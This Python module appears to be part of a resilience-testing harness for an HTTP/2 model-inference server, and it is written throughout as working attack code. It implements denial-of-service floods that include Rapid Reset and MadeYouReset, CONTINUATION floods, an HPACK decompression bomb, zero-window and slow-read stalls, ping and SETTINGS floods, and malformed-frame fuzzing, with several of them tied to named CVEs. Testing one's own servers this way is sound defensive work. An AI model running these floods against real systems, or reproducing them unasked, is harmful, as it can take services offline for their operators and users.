"""HTTP/2: frames that cost the sender nothing."""

import contextlib
import struct
import time

from h2_peer import WINDOW_UPDATE, long_field
from peer import (CONTINUATION, DATA, END_HEADERS, END_STREAM, GRPC, HEADERS, H2, PING, SETTINGS, data, field, flood, frame, grpc_message,
                  ping, priority, rst, settings, window)
from registry import attack

INFER = '/v2/models/identity/infer'
LENGTH = ('content-length', '1')


def with_streams(target, make):
    """Floods with frames of fresh streams; make(h2, stream) gives them."""
    ended = streams = 0
    while not target.over():
        with H2(target, wait=5) as h2:
            stream = 1
            while not target.over() and h2.pump() and stream < 2_000_000:
                h2.send(b''.join(make(h2, s) for s in range(stream, stream + 200, 2)))
                stream, streams = stream + 200, streams + 100
            ended += not h2.pump(0.2)
    return f'{streams} streams on {ended} connections that were ended'


@attack(quick=2.5)
def rapid_reset(target):
    """CVE-2023-44487: requests that are reset at once."""
    return with_streams(target, lambda h2, s: h2.head(s, INFER, 'POST', end=False) + rst(s))


@attack(quick=2.5)
def rapid_reset_of_work(target):
    """The same with whole requests that a model has to run."""
    body = b'{"inputs":[{"name":"x","datatype":"INT32","shape":[1],"data":[1]}]}'
    return with_streams(target, lambda h2, s: h2.head(s, INFER, 'POST', end=False) + data(s, body) + rst(s))


@attack(quick=2.5)
def rapid_reset_with_deadlines(target):
    """The same with deadlines that are over at once, soon, and in a minute: a reset at the client's own deadline is not counted."""
    timeouts = ('1n', '50m', '1M')
    return with_streams(target, lambda h2, s: h2.head(s, INFER, 'POST', end=False, extra=[('grpc-timeout', timeouts[s // 2 % 3])]) + rst(s))


@attack(quick=2.5)
def made_you_reset(target):
    """CVE-2025-8671: bodies longer than announced, windows that overflow, frames on closed streams; the server resets."""
    kinds = [lambda h2, s: h2.head(s, INFER, 'POST', end=False, extra=[LENGTH]) + data(s, b'too long'),
             lambda h2, s: h2.head(s, INFER, 'POST', end=False) + window(s, 0x7fffffff),
             lambda h2, s: h2.head(s, INFER, 'POST', end=False) + window(s, 0),
             lambda h2, s: h2.head(s, INFER, 'POST', end=True) + data(s, b'x'),
             lambda h2, s: h2.head(s, INFER, 'POST', end=False, extra=[('connection', 'x')]),
             lambda h2, s: h2.head(s, INFER, 'POST', end=False) + priority(s, s)]
    return with_streams(target, lambda h2, s: kinds[s // 200 % len(kinds)](h2, s))


@attack(quick=2.5)
def continuation_flood(target):
    """CVE-2024-28182: a head that never ends."""
    block = b''.join(field(n, v) for n, v in ((':method', 'GET'), (':scheme', 'http'), (':path', '/'), (':authority', 'a')))
    first = frame(HEADERS, END_STREAM, 1, block)
    return flood(target, first + frame(CONTINUATION, 0, 1, b'') * 50 + frame(CONTINUATION, 0, 1, long_field('x', 16000)) * 20, rounds=1)


@attack(quick=2.5)
def hpack_bomb(target):
    """CVE-2016-6581, CVE-2026-49975: one field of 3.9 KB, 131,072 times by reference, its answers behind a window of 0."""
    block = b''.join(field(n, v) for n, v in ((':method', 'GET'), (':scheme', 'http'), (':path', '/v2'), (':authority', 'a')))
    block += field('x-bomb', 'b' * 126, 0x40)
    block += b'\xbe' * 131072
    pieces = [block[i:i + 16000] for i in range(0, len(block), 16000)]

    def bomb(stream):
        out = frame(HEADERS, END_STREAM, stream, pieces[0])
        for i, piece in enumerate(pieces[1:]):
            out += frame(CONTINUATION, END_HEADERS if i == len(pieces) - 2 else 0, stream, piece)
        return out
    cookies = b''.join(field(n, v) for n, v in ((':method', 'GET'), (':scheme', 'http'), (':path', '/v2'), (':authority', 'a')))
    cookies += field('cookie', 'a=' + 'b' * 90, 0x40) + b'\xbe' * 15000
    ended = 0
    while not target.over():
        with H2(target, (4, 0), wait=5) as h2:
            h2.send(bomb(1) if ended % 2 else b''.join(frame(HEADERS, END_STREAM | END_HEADERS, s, cookies) for s in range(1, 200, 2)))
            ended += not h2.pump(0.5)
    return f'{ended} connections ended'


def sleepers(target, peers, block, long_one):
    for h2 in peers:
        h2.send(window(0, 1 << 20) + h2.head(1, '/metrics') + h2.head(3, '/openapi.json'))
    for h2 in peers:
        while h2.alive and not {1, 3} <= h2.closed_streams and not target.over():
            h2.pump(0.1)
        h2.send(frame(HEADERS, END_STREAM | END_HEADERS, 5, block + long_one))
    time.sleep(3)  # the server looks for idle ones once a second
    for h2 in peers[::2]:
        h2.send(frame(HEADERS, END_STREAM | END_HEADERS, 7, block + b'\xbe'))
    return sum(h2.pump(0.1) for h2 in peers)


@attack(quick=6)
def field_of_a_sleeper(target):
    """A field whose Huffman code is as long as a frame, behind an answer of larger frames: it stays in the table while its connection is
    idle, and is then asked for again, or forgotten with the connection."""
    block = b''.join(field(n, v) for n, v in ((':method', 'GET'), (':scheme', 'http'), (':path', '/v2'), (':authority', 'a')))
    code = b'\xff\xff\xff\xef\xff\xff\xfe' * 1225  # 2,450 times 0xf9, 28 bits each
    length = len(code) - 127
    long_one = b'\x40\x05x-big\xff' + bytes([0x80 | length & 0x7f, length >> 7]) + code
    kept = 0
    while not target.over():
        with contextlib.ExitStack() as stack:
            kept += sleepers(target, [stack.enter_context(H2(target, (5, 1 << 16), (4, 1 << 20), wait=5)) for _ in range(target.size(50, 10))],
                             block, long_one)
    return f'{kept} connections still open at the end of a round'


@attack(seconds=30, quick=3)
def window_of_zero(target):
    """CVE-2019-9517: 100 answers each on 20 connections behind a window of 0, which then grows by one byte a second."""
    peers = []
    for _ in range(target.size(20, 5)):
        h2 = H2(target, (4, 0), wait=5)
        peers.append(h2.send(b''.join(h2.head(s, '/metrics') for s in range(1, 200, 2))))
    while not target.over():
        for h2 in peers:
            if h2.pump():
                h2.send(b''.join(window(s, 1) for s in range(1, 200, 2) if s not in h2.closed_streams))
        time.sleep(1)
    return f'{sum(p.alive for p in peers)} of {len(peers)} connections still open'


@attack(seconds=30, quick=6)
def tiny_answers(target):
    """300 calls of reflection without a window, of 24,000 empty messages each, whose answers of 44 bytes wait but for 1.5 KB a second."""
    path, streams = '/grpc.reflection.v1.ServerReflection/ServerReflectionInfo', range(1, 200, 2)
    with contextlib.ExitStack() as stack:
        peers = [stack.enter_context(H2(target, (4, 0), wait=5)) for _ in range(3)]
        for h2 in peers:
            h2.send(b''.join(h2.head(s, path, 'POST', end=False, extra=GRPC) for s in streams))
            for _ in range(24):  # 120 KB a stream, 12 MB a connection: within the windows
                h2.send(b''.join(frame(DATA, 0, s, grpc_message(b'') * 1000) for s in streams))
                h2.pump()
        while not target.over():
            for h2 in peers:
                h2.send(b''.join(window(s, 1500) for s in streams if s not in h2.closed_streams))
                h2.pump()
            time.sleep(1)
    return f'{sum(h2.alive and h2.goaway is None for h2 in peers)} of {len(peers)} connections still open'


@attack(quick=2.5)
def ping_flood(target):
    """CVE-2019-9512: pings, and their answers not read."""
    return unread(target, ping() * 1000)


@attack(quick=2.5)
def settings_flood(target):
    """CVE-2019-9515: SETTINGS, empty ones and ones that change the table."""
    return unread(target, (settings() + settings((1, 0)) + settings((1, 4096), (3, 100))) * 300)


def unread(target, octets):
    ended = sent = 0
    while not target.over():
        with H2(target, receive_buffer=4096, wait=5) as h2:
            h2.sock.settimeout(1)
            while not target.over() and h2.alive:
                h2.send(octets)
                sent += 1
            ended += not h2.alive
    return f'{sent} volleys of {len(octets) >> 10} KiB on {ended} connections that were ended'


@attack(quick=2.5)
def empty_frames(target):
    """CVE-2019-9518: empty DATA, DATA that is all padding, empty HEADERS of trailers."""
    def frames(h2, s):
        begin = h2.head(s, INFER, 'POST', end=False)
        return begin + (frame(DATA, 0, s) * 100 if s % 4 == 1 else frame(DATA, 8, s, b'\xff' + bytes(255)) * 100)
    return with_streams(target, frames)


@attack(quick=2.5)
def priority_and_window_churn(target):
    """CVE-2019-9513: PRIORITY and WINDOW_UPDATE without end, and frames of types that nobody knows."""
    octets = b''.join(priority(s, s - 1 or 9) for s in range(1, 2000, 2)) + window(0, 1) * 1000 + frame(0xfa, 0, 0, bytes(8)) * 1000
    return flood(target, octets)


@attack(quick=2.5)
def stream_numbers(target):
    """The highest stream number first, then lower ones; 101 streams where 100 are allowed; heads of streams that were skipped."""
    ended = 0
    while not target.over():
        with H2(target, wait=5) as h2:
            h2.send(h2.head(0x7fffffff) + h2.head(1) + h2.head(0x7fffffff))
            ended += not h2.pump(0.1)
        with H2(target, wait=5) as h2:
            h2.send(b''.join(h2.head(s, INFER, 'POST', end=False) for s in range(1, 2000, 2)))
            ended += not h2.pump(0.1)
    return f'{ended} connections ended'


@attack(quick=2.5)
def frame_soup(target):
    """Frames of any type with any flags, streams and bytes."""
    import random
    chance, ended = random.Random(7), 0
    kinds = (DATA, HEADERS, 2, 3, SETTINGS, 5, PING, 7, WINDOW_UPDATE, CONTINUATION, 16)
    while not target.over():
        with H2(target, wait=5) as h2:
            for _ in range(50):
                size = chance.choice((0, 1, 4, 5, 8, 9, 100))
                h2.send(struct.pack('>I', size)[1:] + bytes([chance.choice(kinds), chance.randrange(256)]) +
                        struct.pack('>I', chance.choice((0, 1, 2, 3, 5, 0x80000001))) + chance.randbytes(size))
                if not h2.pump():
                    ended += 1
                    break
    return f'{ended} connections ended'
